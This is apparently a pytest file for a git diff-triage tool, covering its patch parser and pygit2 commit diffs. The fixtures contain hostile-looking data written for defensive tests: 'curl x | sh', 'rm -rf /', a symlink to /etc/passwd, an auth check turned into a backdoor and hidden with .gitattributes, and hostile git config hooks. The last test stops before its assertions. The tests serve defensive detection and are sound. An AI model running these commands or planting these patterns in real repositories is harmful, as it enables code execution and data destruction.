"""Tests for triage.diff: the unified-diff parser and pygit2 commit diffs.

Repositories are built object by object with pygit2 (raw tree objects, so
non-UTF-8 names work) with fixed signatures and timestamps. The ``git`` CLI is
only used by one test, to produce a reference patch text.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pygit2
import pytest
from pygit2.enums import DiffFind, DiffOption, ObjectType

from triage import patch as patchmod
from triage.diff import MERGE_POLICY, DiffError, diff_commit, post_image, read_blob
from triage.patch import parse_hunks, parse_patch

SIG = pygit2.Signature("Test Author", "test@example.com", 1_700_000_000, 0)
FILE, EXEC, LINK, GITLINK, TREE = 0o100644, 0o100755, 0o120000, 0o160000, 0o040000


pytestmark = pytest.mark.usefixtures("isolated_git_config")


class RepoBuilder:
    """Builds commits from ``{path: content}`` dicts.

    A value is bytes (a 100644 blob), ``(mode, bytes)`` for a blob with that
    mode, or ``(0o160000, "<sha>")`` for a submodule gitlink. Paths are str or
    raw bytes; "/" makes directories.
    """

    def __init__(self, path: Path, *, bare: bool = False) -> None:
        self.path = path
        self.repo = pygit2.init_repository(str(path), bare=bare)
        self.tick = 0

    def _write_tree(self, node: dict[bytes, object]) -> pygit2.Oid:
        entries = []
        for name, value in node.items():
            if isinstance(value, dict):
                entries.append((name, TREE, self._write_tree(value)))
                continue
            mode, content = value if isinstance(value, tuple) else (FILE, value)
            if mode == GITLINK:
                oid = pygit2.Oid(hex=content)
            else:
                oid = self.repo.create_blob(content)
            entries.append((name, mode, oid))
        entries.sort(key=lambda e: e[0] + (b"/" if e[1] == TREE else b""))
        body = b"".join(b"%o %s\0" % (mode, name) + oid.raw for name, mode, oid in entries)
        return self.repo.odb.write(ObjectType.TREE, body)

    def tree(self, files: dict) -> pygit2.Oid:
        root: dict[bytes, object] = {}
        for path, value in files.items():
            raw = path.encode("utf-8", "surrogateescape") if isinstance(path, str) else path
            *dirs, leaf = raw.split(b"/")
            node = root
            for d in dirs:
                node = node.setdefault(d, {})  # type: ignore[assignment]
            node[leaf] = value
        return self._write_tree(root)

    def commit(self, files: dict, parents: list[pygit2.Commit] | tuple = (), message: str = "change") -> pygit2.Commit:
        self.tick += 1
        sig = pygit2.Signature(SIG.name, SIG.email, SIG.time + self.tick, 0)
        oid = self.repo.create_commit(
            None, sig, sig, message, self.tree(files), [p.id for p in parents]
        )
        return self.repo[oid]

    def pair(self, before: dict, after: dict) -> tuple[pygit2.Commit, pygit2.Commit]:
        """A root commit with ``before`` and its child with ``after``."""
        c1 = self.commit(before)
        return c1, self.commit(after, [c1])


@pytest.fixture
def rb(tmp_path: Path) -> RepoBuilder:
    return RepoBuilder(tmp_path / "repo")


def lines_of(fd):
    return [(ln.origin, ln.raw, ln.old_no, ln.new_no) for h in fd.hunks for ln in h.lines]


def only(files, path=None):
    if path is None:
        assert len(files) == 1, files
        return files[0]
    matches = [f for f in files if f.path == path]
    assert len(matches) == 1, [f.path for f in files]
    return matches[0]


# ------------------------------------------------------------------ parse_patch

GIT_PATCH = b"""diff --git a/src/app.py b/src/app.py
index 83db48f..bf269f4 100644
--- a/src/app.py
+++ b/src/app.py
@@ -1,4 +1,5 @@ def main():
 import os
-x = 1
+x = 2
+y = 3
 print(x)
 end
@@ -10,2 +11,2 @@
 a
-b
+c
"""


def test_parse_git_patch_paths_counts_and_line_numbers():
    [fd] = parse_patch(GIT_PATCH)
    assert (fd.status, fd.old_path, fd.new_path) == ("M", "src/app.py", "src/app.py")
    assert fd.old_raw_path == b"src/app.py"
    assert (fd.old_mode, fd.new_mode) == (FILE, FILE)
    assert (fd.old_oid, fd.new_oid) == ("83db48f", "bf269f4")
    assert (fd.added, fd.deleted) == (3, 2)
    h1, h2 = fd.hunks
    assert (h1.old_start, h1.old_lines, h1.new_start, h1.new_lines) == (1, 4, 1, 5)
    assert h1.header == "@@ -1,4 +1,5 @@ def main():"
    assert lines_of(fd)[:6] == [
        (" ", b"import os", 1, 1),
        ("-", b"x = 1", 2, None),
        ("+", b"x = 2", None, 2),
        ("+", b"y = 3", None, 3),
        (" ", b"print(x)", 3, 4),
        (" ", b"end", 4, 5),
    ]
    assert [(ln.origin, ln.old_no, ln.new_no) for ln in h2.lines] == [
        (" ", 10, 11), ("-", 11, None), ("+", None, 12)
    ]
    assert fd.added_line_numbers() == {2, 3, 12}
    assert fd.notes == []


def test_parse_plain_unified_diff_with_timestamps():
    data = (
        b"--- a/notes.txt\t2024-01-01 10:00:00.000000000 +0000\n"
        b"+++ b/notes.txt\t2024-01-02 10:00:00.000000000 +0000\n"
        b"@@ -1 +1,2 @@\n"
        b" keep\n"
        b"+more\n"
        b"--- /dev/null\n"
        b"+++ b/new.txt\n"
        b"@@ -0,0 +1 @@\n"
        b"+hello\n"
    )
    first, second = parse_patch(data)
    assert (first.status, first.path, first.added, first.deleted) == ("M", "notes.txt", 1, 0)
    assert (second.status, second.old_path, second.new_path) == ("A", None, "new.txt")
    assert lines_of(second) == [("+", b"hello", None, 1)]


def test_parse_new_and_deleted_files():
    data = (
        b"diff --git a/gone.txt b/gone.txt\n"
        b"deleted file mode 100644\n"
        b"index e69de29..0000000\n"
        b"--- a/gone.txt\n"
        b"+++ /dev/null\n"
        b"@@ -1,2 +0,0 @@\n"
        b"-one\n"
        b"-two\n"
        b"diff --git a/run.sh b/run.sh\n"
        b"new file mode 100755\n"
        b"index 0000000..e69de29\n"
    )
    gone, run = parse_patch(data)
    assert (gone.status, gone.old_path, gone.new_path, gone.deleted) == ("D", "gone.txt", None, 2)
    assert gone.old_mode == FILE
    assert (run.status, run.old_path, run.new_path, run.new_mode) == ("A", None, "run.sh", EXEC)
    assert "empty file added" in run.notes


def test_parse_c_quoted_paths_keep_exact_bytes():
    data = (
        b'diff --git "a/lat\\351.txt" "b/new\\nline \\"q\\".txt"\n'
        b"similarity index 90%\n"
        b'rename from "lat\\351.txt"\n'
        b'rename to "new\\nline \\"q\\".txt"\n'
        b"index 1111111..2222222 100644\n"
        b'--- "a/lat\\351.txt"\n'
        b'+++ "b/new\\nline \\"q\\".txt"\n'
        b"@@ -1 +1 @@\n"
        b"-caf\xe9\n"
        b"+cafe\n"
    )
    [fd] = parse_patch(data)
    assert fd.status == "R" and fd.similarity == 90
    assert fd.old_raw_path == b"lat\xe9.txt"
    assert fd.new_raw_path == b'new\nline "q".txt'
    assert fd.old_path == "lat\udce9.txt"  # surrogateescape: lossless
    assert fd.old_path.encode("utf-8", "surrogateescape") == fd.old_raw_path
    assert "renamed lat\\xe9.txt -> new\nline \"q\".txt (90%)" in fd.notes
    assert "path is not valid UTF-8 (raw bytes kept, shown escaped)" in fd.notes
    assert "content is not valid UTF-8 (raw bytes kept, shown escaped)" in fd.notes
    assert lines_of(fd)[0] == ("-", b"caf\xe9", 1, None)


def test_parse_quoted_path_only_in_diff_git_line():
    data = b'diff --git "a/sp\\303\\251cial.sh" "b/sp\\303\\251cial.sh"\nold mode 100644\nnew mode 100755\n'
    [fd] = parse_patch(data)
    assert fd.path == "spécial.sh"
    assert fd.status == "M" and fd.hunks == []
    assert fd.notes == ["mode 100644 -> 100755 (+x)"]


def test_parse_unquoted_paths_with_spaces():
    [fd] = parse_patch(b"diff --git a/my file.txt b/my file.txt\nold mode 100755\nnew mode 100644\n")
    assert fd.path == "my file.txt"
    assert fd.notes == ["mode 100755 -> 100644 (-x)"]


def test_parse_rename_and_copy_headers():
    data = (
        b"diff --git a/old name.py b/new name.py\n"
        b"similarity index 100%\n"
        b"rename from old name.py\n"
        b"rename to new name.py\n"
        b"diff --git a/lib.py b/lib_copy.py\n"
        b"similarity index 95%\n"
        b"copy from lib.py\n"
        b"copy to lib_copy.py\n"
        b"index 1111111..2222222 100644\n"
        b"--- a/lib.py\n"
        b"+++ b/lib_copy.py\n"
        b"@@ -1 +1 @@\n"
        b"-a\n"
        b"+b\n"
    )
    ren, cp = parse_patch(data)
    assert (ren.status, ren.old_path, ren.new_path, ren.similarity) == ("R", "old name.py", "new name.py", 100)
    assert ren.hunks == []
    assert ren.notes == ["renamed old name.py -> new name.py (100%)", "content unchanged"]
    assert (cp.status, cp.old_path, cp.new_path, cp.similarity) == ("C", "lib.py", "lib_copy.py", 95)
    assert "copied lib.py -> lib_copy.py (95%)" in cp.notes
    assert (cp.added, cp.deleted) == (1, 1)


def test_parse_binary_markers():
    data = (
        b"diff --git a/logo.png b/logo.png\n"
        b"index 1111111..2222222 100644\n"
        b"Binary files a/logo.png and b/logo.png differ\n"
        b"diff --git a/blob.bin b/blob.bin\n"
        b"new file mode 100644\n"
        b"index 0000000..3333333\n"
        b"GIT binary patch\n"
        b"literal 12\n"
        b"TcmZQzKn5@XfE0j+0R#XA0-OLj\n"
        b"\n"
        b"literal 0\n"
        b"HcmV?d00001\n"
        b"\n"
        b"diff --git a/z.txt b/z.txt\n"
        b"--- a/z.txt\n"
        b"+++ b/z.txt\n"
        b"@@ -1 +1 @@\n"
        b"-1\n"
        b"+2\n"
    )
    png, bin_, txt = parse_patch(data)
    assert png.is_binary and png.binary_reason == "content" and png.hunks == []
    assert png.notes == ["binary file"]
    assert bin_.is_binary and bin_.status == "A" and bin_.new_size == 12
    assert bin_.notes == ["binary file added (12 bytes)"]
    assert not txt.is_binary and (txt.added, txt.deleted) == (1, 1)


def test_parse_no_newline_marker_and_crlf():
    data = (
        b"--- a/f.txt\n+++ b/f.txt\n@@ -1,2 +1,2 @@\n"
        b" same\r\n"
        b"-last\n"
        b"\\ No newline at end of file\n"
        b"+last\r\n"
    )
    [fd] = parse_patch(data)
    assert lines_of(fd) == [
        (" ", b"same\r", 1, 1),
        ("-", b"last", 2, None),
        ("\\", b"", None, None),
        ("+", b"last\r", None, 2),
    ]
    assert (fd.added, fd.deleted) == (1, 1)
    assert "no newline at end of file (old version)" in fd.notes
    assert "CRLF line endings: 1 added and 0 deleted line(s) end in \\r" in fd.notes


def test_parse_localized_marker_on_context_line():
    data = b"--- a/f\n+++ b/f\n@@ -1,2 +1,2 @@\n-a\n+b\n end\n\\ Kein Zeilenumbruch am Dateiende.\n"
    [fd] = parse_patch(data)
    assert lines_of(fd)[-1] == ("\\", b"", None, None)
    assert "no newline at end of file (old and new versions)" in fd.notes


def test_parse_splits_on_lf_only():
    weird = [b"a\x0bb", b"c\x0cd", b"e\xe2\x80\xa8f", b"g\xc2\x85h", b"i\x1cj", b"k\rl"]
    body = b"".join(b"+" + w + b"\n" for w in weird)
    data = b"--- /dev/null\n+++ b/w.txt\n@@ -0,0 +1,6 @@\n" + body + b"+last\n"
    [fd] = parse_patch(data)
    # The hunk says 6 new lines: "+last" is outside it and not counted.
    assert [ln.raw for h in fd.hunks for ln in h.lines] == weird
    assert [ln.new_no for h in fd.hunks for ln in h.lines] == [1, 2, 3, 4, 5, 6]
    assert fd.added == 6


def test_parse_tolerates_blank_context_lines():
    # Mail clients and editors strip the lone space of an empty context line.
    data = b"--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n\n-b\n+c\n"
    [fd] = parse_patch(data)
    assert lines_of(fd) == [(" ", b"a", 1, 1), (" ", b"", 2, 2), ("-", b"b", 3, None), ("+", b"c", None, 3)]


def test_parse_header_lookalikes_inside_a_hunk_are_content():
    # Deleting the line "-- x" and adding "++ y" renders as "--- x" / "+++ y".
    data = (
        b"diff --git a/m.sql b/m.sql\n--- a/m.sql\n+++ b/m.sql\n"
        b"@@ -1,3 +1,3 @@\n"
        b"--- x\n"
        b"+++ y\n"
        b" diff --git a/q b/q\n"
        b"-@@ -1 +1 @@\n"
        b"+@@ -2 +2 @@\n"
    )
    [fd] = parse_patch(data)
    assert [(o, r) for o, r, _, _ in lines_of(fd)] == [
        ("-", b"-- x"), ("+", b"++ y"), (" ", b"diff --git a/q b/q"),
        ("-", b"@@ -1 +1 @@"), ("+", b"@@ -2 +2 @@"),
    ]
    assert (fd.added, fd.deleted) == (2, 2)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\n\n\n",
        b"\x00\xff\xfe garbage",
        b"diff --git",
        b"diff --git \n",
        b'diff --git "a/unterminated\n',
        b'diff --git "a/x\\',
        b"@@ -1,2 +1,2 @@\n",
        b"@@ -a,b +c,d @@\n+x\n",
        b"@@ -99999999999999999999,1 +1,99999999999999999999 @@\n+x\n-y\n",
        b"--- \n+++ \n@@ -1 +1 @@\n",
        b"diff --cc f\n@@@ -1,2 -1,2 +1,3 @@@\n  a\n+ b\n",
        b"diff --git a/x b/x\nold mode 999999999\nnew mode \nsimilarity index 1000000%\nindex ..\n",
        b"diff --git a/x b/x\nBinary files  differ\nliteral x\n",
        b"\\ No newline at end of file\n",
        "diff --git a/é b/é\n".encode(),
    ],
)
def test_parse_patch_never_raises_on_garbage(data):
    result = patchmod._parse(data)  # the internal parser must not raise either
    files = parse_patch(data)
    assert len(files) == len(result)
    for fd in files:
        assert fd.added == sum(ln.origin == "+" for h in fd.hunks for ln in h.lines)
        assert fd.deleted == sum(ln.origin == "-" for h in fd.hunks for ln in h.lines)


def test_parse_patch_accepts_non_bytes():
    assert parse_patch(bytearray(GIT_PATCH))[0].added == 3
    assert parse_patch(None) == []  # type: ignore[arg-type]


def test_parse_patch_cap_keeps_counts_exact():
    body = b"".join(b"+line %d\n" % i for i in range(50))
    data = b"--- /dev/null\n+++ b/big.txt\n@@ -0,0 +1,50 @@\n" + body + b"--- a/s\n+++ b/s\n@@ -1 +1 @@\n-a\n+b\n"
    big, small = parse_patch(data, max_lines_per_file=10)
    assert big.added == 50 and big.truncated
    assert len(big.hunks[0].lines) == 10
    assert "diff truncated: 10 lines shown (limit 10 lines); +50 -0 counts are exact" in big.notes
    assert not small.truncated and len(small.hunks[0].lines) == 2


def test_parse_hunks_for_forge_patch_field():
    patch = b"@@ -1,3 +1,3 @@ class A:\n a\n-b\n+B\n c\n@@ -20 +20,2 @@\n x\n+y\n\\ No newline at end of file"
    h1, h2 = parse_hunks(patch)
    assert h1.header == "@@ -1,3 +1,3 @@ class A:"
    assert [(ln.origin, ln.raw, ln.old_no, ln.new_no) for ln in h1.lines] == [
        (" ", b"a", 1, 1), ("-", b"b", 2, None), ("+", b"B", None, 2), (" ", b"c", 3, 3)
    ]
    assert [(ln.origin, ln.new_no) for ln in h2.lines] == [(" ", 20), ("+", 21), ("\\", None)]
    assert parse_hunks(b"not a patch") == []
    assert parse_hunks(b"\xff@@ -1 +1 @@") == []


# ------------------------------------------------------------------ diff_commit


def test_modified_file_and_merge_policy_constant(rb):
    c1, c2 = rb.pair(
        {"app.py": b"import os\nx = 1\nprint(x)\n"},
        {"app.py": b"import os\nx = 2\nprint(x)\n"},
    )
    fd = only(diff_commit(rb.repo, c2))
    assert (fd.status, fd.old_path, fd.new_path, fd.added, fd.deleted) == ("M", "app.py", "app.py", 1, 1)
    assert lines_of(fd) == [
        (" ", b"import os", 1, 1), ("-", b"x = 1", 2, None), ("+", b"x = 2", None, 2), (" ", b"print(x)", 3, 3)
    ]
    assert fd.old_oid == str(c1.tree["app.py"].id) and fd.new_oid == str(c2.tree["app.py"].id)
    assert (fd.old_size, fd.new_size) == (len(b"import os\nx = 1\nprint(x)\n"),) * 2
    assert fd.notes == []
    assert MERGE_POLICY == "first-parent"


def test_root_commit_is_diffed_against_empty_tree(rb):
    c = rb.commit({"README": b"hi\n", "src/a.py": b"a\nb\n"})
    files = diff_commit(rb.repo, c)
    assert sorted((f.status, f.path, f.old_path, f.added) for f in files) == [
        ("A", "README", None, 1), ("A", "src/a.py", None, 2)
    ]


def test_empty_commit_has_no_files(rb):
    c1 = rb.commit({"a": b"x\n"})
    c2 = rb.commit({"a": b"x\n"}, [c1])
    assert diff_commit(rb.repo, c2) == []


def test_merge_commit_uses_first_parent(rb):
    base = rb.commit({"main.txt": b"m\n", "feature.txt": b"f\n"})
    main = rb.commit({"main.txt": b"m2\n", "feature.txt": b"f\n"}, [base])
    feat = rb.commit({"main.txt": b"m\n", "feature.txt": b"f2\n"}, [base])
    # An evil merge also sneaks in a file that neither parent has.
    merge = rb.commit(
        {"main.txt": b"m2\n", "feature.txt": b"f2\n", "evil.sh": b"curl x | sh\n"}, [main, feat]
    )
    files = diff_commit(rb.repo, merge)
    assert sorted((f.status, f.path) for f in files) == [("A", "evil.sh"), ("M", "feature.txt")]


def test_missing_parent_raises_diff_error(rb):
    tree = rb.tree({"a": b"1\n"})
    body = (
        f"tree {tree}\nparent {'1' * 40}\n"
        "author T <t@x> 1700000000 +0000\ncommitter T <t@x> 1700000000 +0000\n\nshallow\n"
    ).encode()
    commit = rb.repo[rb.repo.odb.write(ObjectType.COMMIT, body)]
    with pytest.raises(DiffError, match="missing"):
        diff_commit(rb.repo, commit)
    assert issubclass(DiffError, pygit2.GitError)  # ingest already handles GitError


def test_missing_blob_does_not_hide_the_other_files(rb):
    c1 = rb.commit({"a.txt": b"ok\n", "b.txt": b"ok\n"})
    entries = [(b"a.txt", FILE, pygit2.Oid(hex="ab" * 20)), (b"b.txt", FILE, rb.repo.create_blob(b"ok2\n"))]
    body = b"".join(b"%o %s\0" % (m, n) + o.raw for n, m, o in entries)
    tree = rb.repo.odb.write(ObjectType.TREE, body)
    c2 = rb.repo[rb.repo.create_commit(None, SIG, SIG, "corrupt", tree, [c1.id])]
    files = diff_commit(rb.repo, c2)
    broken = only(files, "a.txt")
    assert broken.status == "M" and broken.new_oid == "ab" * 20
    assert broken.notes and broken.notes[0].startswith("could not diff this file:")
    assert only(files, "b.txt").added == 1


def test_pure_rename_has_no_hunks_but_a_note(rb):
    content = b"".join(b"line %d\n" % i for i in range(20))
    _, c2 = rb.pair({"old/name.py": content}, {"new/name.py": content})
    fd = only(diff_commit(rb.repo, c2))
    assert (fd.status, fd.old_path, fd.new_path, fd.similarity) == ("R", "old/name.py", "new/name.py", 100)
    assert fd.hunks == [] and (fd.added, fd.deleted) == (0, 0)
    assert fd.notes == ["renamed old/name.py -> new/name.py (100%)", "content unchanged"]


def test_rename_with_edit_and_copy(rb):
    lib = b"".join(b"def f%d():\n    return %d\n" % (i, i) for i in range(20))
    moved = b"".join(b"moved line %d\n" % i for i in range(20))
    _, c2 = rb.pair(
        {"lib.py": lib, "a.txt": moved},
        {"lib.py": lib + b"# tail\n", "lib_copy.py": lib, "b.txt": moved.replace(b"line 3\n", b"LINE 3\n")},
    )
    files = diff_commit(rb.repo, c2)
    cp = only(files, "lib_copy.py")
    assert (cp.status, cp.old_path, cp.new_path) == ("C", "lib.py", "lib_copy.py")
    assert cp.similarity == 100 and "copied lib.py -> lib_copy.py (100%)" in cp.notes
    ren = only(files, "b.txt")
    assert (ren.status, ren.old_path) == ("R", "a.txt")
    assert 0 < ren.similarity < 100
    assert (ren.added, ren.deleted) == (1, 1)
    assert lines_of(ren)[3:5] == [("-", b"moved line 3", 4, None), ("+", b"moved LINE 3", None, 4)]


def test_binary_file(rb):
    png_old = b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256))
    png_new = png_old + b"\x00more"
    _, c2 = rb.pair({"logo.png": png_old}, {"logo.png": png_new})
    fd = only(diff_commit(rb.repo, c2))
    assert fd.is_binary and fd.binary_reason == "content"
    assert fd.hunks == [] and (fd.added, fd.deleted) == (0, 0)
    assert (fd.old_size, fd.new_size) == (len(png_old), len(png_new))
    assert fd.notes == [f"binary file ({len(png_old)} -> {len(png_new)} bytes)"]
    assert post_image(rb.repo, c2, fd) is None


def test_gitattributes_minus_diff_cannot_hide_a_text_change(tmp_path):
    rb = RepoBuilder(tmp_path / "w")
    (rb.path / ".gitattributes").write_text("*.py -diff\n")
    _, c2 = rb.pair(
        {"auth.py": b"def check(pw):\n    return pw == SECRET\n"},
        {
            "auth.py": b"def check(pw):\n    return True\n",
            ".gitattributes": b"*.py -diff\n",
        },
    )
    # Precondition: libgit2 alone really hides the change.
    raw = rb.repo.diff(c2.parents[0].tree, c2.tree)
    assert any(p.delta.is_binary for p in raw)

    files = diff_commit(rb.repo, c2)
    fd = only(files, "auth.py")
    assert not fd.is_binary and fd.binary_reason == ""
    assert (fd.added, fd.deleted) == (1, 1)
    assert ("+", b"    return True", None, 2) in lines_of(fd)
    assert fd.notes == ["marked -diff by .gitattributes; shown as text"]
    attrs = only(files, ".gitattributes")
    assert attrs.notes == [".gitattributes changed: it can hide diffs (-diff, binary) and change line endings"]
    assert post_image(rb.repo, c2, fd) == b"def check(pw):\n    return True\n"


def test_gitattributes_on_real_binary_stays_binary(tmp_path):
    rb = RepoBuilder(tmp_path / "w")
    (rb.path / ".gitattributes").write_text("*.dat -diff\n")
    _, c2 = rb.pair({"x.dat": b"a\x00b"}, {"x.dat": b"a\x00c"})
    fd = only(diff_commit(rb.repo, c2))
    assert fd.is_binary and fd.binary_reason == "content"
    assert "marked -diff by .gitattributes; shown as text" not in fd.notes


def test_mode_change_only(rb):
    _, c2 = rb.pair({"deploy.sh": b"echo hi\n"}, {"deploy.sh": (EXEC, b"echo hi\n")})
    fd = only(diff_commit(rb.repo, c2))
    assert (fd.status, fd.old_mode, fd.new_mode) == ("M", FILE, EXEC)
    assert fd.hunks == []
    assert fd.notes == ["mode 100644 -> 100755 (+x)"]


def test_file_replaced_by_symlink_is_a_type_change_never_followed(rb, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"TOP SECRET\n")
    _, c2 = rb.pair(
        {"config.yml": b"debug: false\nport: 80\n"},
        {"config.yml": (LINK, str(secret).encode())},
    )
    fd = only(diff_commit(rb.repo, c2))
    assert (fd.status, fd.old_mode, fd.new_mode) == ("T", FILE, LINK)
    assert fd.is_symlink
    assert fd.notes[:3] == [
        "type change: regular file -> symlink",
        f"symlink -> {secret}",
        "symlink target is outside the repository",
    ]
    # Both sides are shown like git shows them: old content out, target in.
    assert [(o, r) for o, r, _, _ in lines_of(fd)] == [
        ("-", b"debug: false"), ("-", b"port: 80"), ("+", str(secret).encode()), ("\\", b"")
    ]
    assert all(b"TOP SECRET" not in ln.raw for h in fd.hunks for ln in h.lines)
    assert post_image(rb.repo, c2, fd) == str(secret).encode()


def test_symlink_replaced_by_file_shows_the_new_content(rb):
    _, c2 = rb.pair({"run": (LINK, b"bin/run.sh")}, {"run": (EXEC, b"#!/bin/sh\nrm -rf /\n")})
    fd = only(diff_commit(rb.repo, c2))
    assert fd.status == "T"
    assert "type change: symlink -> executable file" in fd.notes
    assert "symlink replaced (was -> bin/run.sh)" in fd.notes
    assert fd.added == 2 and fd.added_line_numbers() == {1, 2}


def test_symlink_added_and_retargeted(rb):
    c1 = rb.commit({"docs/link": (LINK, b"../README")})
    c2 = rb.commit({"docs/link": (LINK, b"../../../etc/passwd")}, [c1])
    added = only(diff_commit(rb.repo, c1))
    assert (added.status, added.new_mode) == ("A", LINK)
    assert added.notes == ["symlink -> ../README", "no newline at end of file (new version)"]
    changed = only(diff_commit(rb.repo, c2))
    assert changed.notes[0] == "symlink -> ../../../etc/passwd (was -> ../README)"
    assert changed.notes[1] == "symlink target is outside the repository"
    assert read_blob(rb.repo, c2, "docs/link") == b"../../../etc/passwd"


def test_submodule_gitlink_change(rb):
    old, new = "1" * 40, "2" * 40
    c1 = rb.commit({".gitmodules": b'[submodule "vendor"]\n\turl = https://a/x\n', "vendor": (GITLINK, old)})
    c2 = rb.commit(
        {".gitmodules": b'[submodule "vendor"]\n\turl = https://evil/x\n', "vendor": (GITLINK, new)}, [c1]
    )
    files = diff_commit(rb.repo, c2)
    sub = only(files, "vendor")
    assert sub.is_submodule and (sub.old_mode, sub.new_mode) == (GITLINK, GITLINK)
    assert sub.notes == [f"submodule {old} -> {new}"]
    assert not sub.is_binary
    mods = only(files, ".gitmodules")
    assert ".gitmodules changed: check submodule URLs and paths" in mods.notes
    assert ("+", b"\turl = https://evil/x", None, 2) in lines_of(mods)
    assert post_image(rb.repo, c2, sub) is None
    assert read_blob(rb.repo, c2, "vendor") is None
    assert only(diff_commit(rb.repo, c1), "vendor").notes == [f"submodule added at {old}"]


def test_non_utf8_path_and_content(rb):
    _, c2 = rb.pair(
        {b"lat\xe9.txt": b"caf\xe9\n", b"new\nline.txt": b"a\n"},
        {b"lat\xe9.txt": b"caf\xe9 cr\xe8me\n", b"new\nline.txt": b"b\n"},
    )
    files = diff_commit(rb.repo, c2)
    lat = only(files, "lat\udce9.txt")
    assert lat.old_raw_path == lat.new_raw_path == b"lat\xe9.txt"
    assert lines_of(lat) == [("-", b"caf\xe9", 1, None), ("+", b"caf\xe9 cr\xe8me", None, 1)]
    assert lat.notes == [
        "path is not valid UTF-8 (raw bytes kept, shown escaped)",
        "content is not valid UTF-8 (raw bytes kept, shown escaped)",
    ]
    nl = only(files, "new\nline.txt")
    assert nl.raw_path == b"new\nline.txt" and nl.notes == []
    assert read_blob(rb.repo, c2, "lat\udce9.txt") == b"caf\xe9 cr\xe8me\n"
    assert read_blob(rb.repo, c2, b"lat\xe9.txt") == b"caf\xe9 cr\xe8me\n"
    assert post_image(rb.repo, c2, lat) == b"caf\xe9 cr\xe8me\n"


def test_crlf_conversion_stays_visible(rb):
    _, c2 = rb.pair({"w.bat": b"echo a\necho b\n"}, {"w.bat": b"echo a\r\necho b\n"})
    fd = only(diff_commit(rb.repo, c2))
    assert lines_of(fd)[:2] == [("-", b"echo a", 1, None), ("+", b"echo a\r", None, 1)]
    assert "CRLF line endings: 1 added and 0 deleted line(s) end in \\r" in fd.notes


def test_no_newline_at_eof_on_either_side(rb):
    c1 = rb.commit({"a.txt": b"x\ny"})
    c2 = rb.commit({"a.txt": b"x\ny\n"}, [c1])
    c3 = rb.commit({"a.txt": b"x\nz"}, [c2])
    fd2 = only(diff_commit(rb.repo, c2))
    assert lines_of(fd2) == [(" ", b"x", 1, 1), ("-", b"y", 2, None), ("\\", b"", None, None), ("+", b"y", None, 2)]
    assert "no newline at end of file (old version)" in fd2.notes
    fd3 = only(diff_commit(rb.repo, c3))
    assert lines_of(fd3)[-1] == ("\\", b"", None, None)
    assert "no newline at end of file (new version)" in fd3.notes


def test_separators_inside_lines_keep_git_line_numbers(rb):
    old = b"a\x0bb\nc\x0cd\ne\xe2\x80\xa8f\ng\xc2\x85h\nlast\n"
    _, c2 = rb.pair({"s.txt": old}, {"s.txt": old.replace(b"last", b"LAST")})
    fd = only(diff_commit(rb.repo, c2))
    assert ("+", b"LAST", None, 5) in lines_of(fd)
    assert (" ", b"g\xc2\x85h", 4, 4) in lines_of(fd)


def test_huge_file_is_truncated_with_exact_counts(rb):
    big = b"".join(b"row %d\n" % i for i in range(5000))
    _, c2 = rb.pair({"small.txt": b"a\n"}, {"small.txt": b"b\n", "data.csv": big})
    files = diff_commit(rb.repo, c2, max_lines_per_file=1000)
    fd = only(files, "data.csv")
    assert fd.truncated and fd.added == 5000
    assert sum(len(h.lines) for h in fd.hunks) == 1000
    assert fd.hunks[0].lines[-1].new_no == 1000
    assert "diff truncated: 1000 lines shown (limit 1000 lines); +5000 -0 counts are exact" in fd.notes
    assert not only(files, "small.txt").truncated


def test_context_lines_option(rb):
    old = b"".join(b"%d\n" % i for i in range(20))
    _, c2 = rb.pair({"n": old}, {"n": old.replace(b"10\n", b"ten\n")})
    fd = only(diff_commit(rb.repo, c2, context_lines=1))
    assert [ln.origin for ln in fd.hunks[0].lines] == [" ", "-", "+", " "]


def test_agrees_with_git_cli_patch(rb):
    git = shutil.which("git")
    if git is None:
        pytest.skip("git CLI not installed")
    _, c2 = rb.pair(
        {"a.py": b"one\ntwo\nthree\nfour\nfive\nsix\nseven\n", b"lat\xe9.txt": b"x\ny", "w.txt": b"v\x0bt\nz\n"},
        {"a.py": b"one\n2\nthree\nfour\nfive\nsix\nseven\neight\n", b"lat\xe9.txt": b"x\ny\n", "w.txt": b"v\x0bt\r\nz\n"},
    )
    env = {
        "PATH": os.environ.get("PATH", ""),
        "HOME": str(rb.path),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_GLOBAL": os.devnull,
    }
    ref = subprocess.run(
        [git, "-C", str(rb.path), "show", "--no-color", "--format=", "--no-ext-diff", str(c2.id)],
        capture_output=True, check=True, env=env,
    ).stdout
    want = parse_patch(ref)
    got = diff_commit(rb.repo, c2)
    key = lambda f: f.raw_path  # noqa: E731
    assert [f.raw_path for f in sorted(want, key=key)] == [b"a.py", b"lat\xe9.txt", b"w.txt"]
    for w, g in zip(sorted(want, key=key), sorted(got, key=key)):
        assert (w.status, w.old_raw_path, w.new_raw_path) == (g.status, g.old_raw_path, g.new_raw_path)
        assert (w.added, w.deleted) == (g.added, g.deleted)
        assert lines_of(w) == lines_of(g)
        assert [h.header for h in w.hunks] == [h.header for h in g.hunks]


def test_no_subprocess_even_with_hostile_config(tmp_path, monkeypatch):
    rb = RepoBuilder(tmp_path / "hostile")
    marker = tmp_path / "pwned"
    script = tmp_path / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    cfg = rb.repo.config
    cfg["core.fsmonitor"] = str(script)
    cfg["diff.external"] = str(script)
    cfg["diff.evil.textconv"] = str(script)
    cfg["diff.evil.command"] = str(script)
    (rb.path / ".gitattributes").write_text("* diff=evil\n")
    hooks = rb.path / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    for hook in ("post-checkout", "pre-commit", "post-index-change"):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch {marker}\n")
        (hooks / hook).chmod(0o755)
    _, c2 = rb.pair({"a.py": b"x = 1\n"}, {"a.py": b"x = 2\n", "b.py": b"y\n"})

    def refuse(*args, **kwargs):
        raise AssertionError(f"subprocess spawned: {args!r}")

    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr(os, "system", refuse)
    monkeypatch.setattr(os, "posix_spawn", refuse, raising=False)
    monkeypatch.setattr(os, "fork", refuse, raising=False)
